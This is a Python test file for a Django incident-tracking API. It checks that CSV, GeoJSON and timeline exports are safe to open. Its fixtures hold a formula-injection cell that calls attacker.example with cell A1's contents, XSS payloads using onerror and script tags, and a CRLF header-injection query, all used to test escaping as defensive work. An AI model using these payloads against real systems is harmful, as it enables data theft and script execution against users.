"""Exports are safe to open: no CSV cell runs as a spreadsheet formula, each file is named after
what it holds, and the text TimelineJS and map popups insert as HTML is escaped."""

import csv
import io

import pytest
from django.utils import timezone

from conflict.api.renderers import spreadsheet_safe
from events.models import Incident

HOSTILE_TITLE = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
HOSTILE_SUMMARY = "<img src=x onerror=alert(1)> & <script>alert(2)</script>"


@pytest.fixture
def hostile_incident(incident):
    Incident.objects.filter(pk=incident.pk).update(title=HOSTILE_TITLE, summary=HOSTILE_SUMMARY)
    return incident


@pytest.mark.parametrize(
    "text, safe",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Peshawar mosque bombing", "Peshawar mosque bombing"),
        ("", ""),
        (-1, -1),
        (None, None),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_kept_as_text(text, safe):
    assert spreadsheet_safe(text) == safe


def test_the_csv_export_neutralises_formula_cells(client, hostile_incident):
    rows = list(
        csv.DictReader(io.StringIO(b"".join(client.get("/api/v1/incidents/?format=csv").streaming_content).decode()))
    )
    assert rows[0]["title"] == "'" + HOSTILE_TITLE
    assert float(rows[0]["latitude"]) == 34.01  # numbers stay numbers


def today():
    return timezone.now().date().isoformat()


@pytest.mark.parametrize("export_format, extension", [("csv", "csv"), ("geojson", "geojson"), ("timeline", "json")])
def test_every_export_is_named_after_what_it_holds(client, incident, ttp, export_format, extension):
    response = client.get(f"/api/v1/incidents/?format={export_format}&date_from=2023&actor=ttp&ordering=-date")
    expected = f"incidents-actor-ttp-date_from-2023-{today()}.{extension}"
    assert response["Content-Disposition"] == f'attachment; filename="{expected}"'


def test_an_unfiltered_export_is_named_as_all_incidents(client, incident):
    response = client.get("/api/v1/incidents/?format=csv")
    assert response["Content-Disposition"] == f'attachment; filename="incidents-all-{today()}.csv"'


def test_a_filename_holds_no_character_that_could_break_the_header(client, incident):
    response = client.get('/api/v1/incidents/?format=csv&q=a"b;c%0d%0aX-Injected: 1')
    filename = response["Content-Disposition"].split("filename=", 1)[1]
    assert filename == f'"incidents-q-abc-x-injected-1-{today()}.csv"'
    assert "X-Injected" not in response


def test_timeline_text_is_escaped_for_the_html_timelinejs_inserts(client, hostile_incident):
    event = client.get("/api/v1/incidents/?format=timeline").json()["events"][0]
    assert event["text"]["text"] == ("&lt;img src=x onerror=alert(1)&gt; &amp; &lt;script&gt;alert(2)&lt;/script&gt;")
    assert event["text"]["headline"] == "=HYPERLINK(&quot;http://attacker.example/?&quot;&amp;A1,&quot;Click&quot;)"


def test_geojson_text_is_escaped_for_the_html_of_map_popups(client, hostile_incident):
    properties = client.get("/api/v1/incidents/?format=geojson").json()["features"][0]["properties"]
    assert properties["summary"] == "&lt;img src=x onerror=alert(1)&gt; &amp; &lt;script&gt;alert(2)&lt;/script&gt;"
    assert properties["place_name"] == "Peshawar"
    assert properties["latitude"] == 34.01
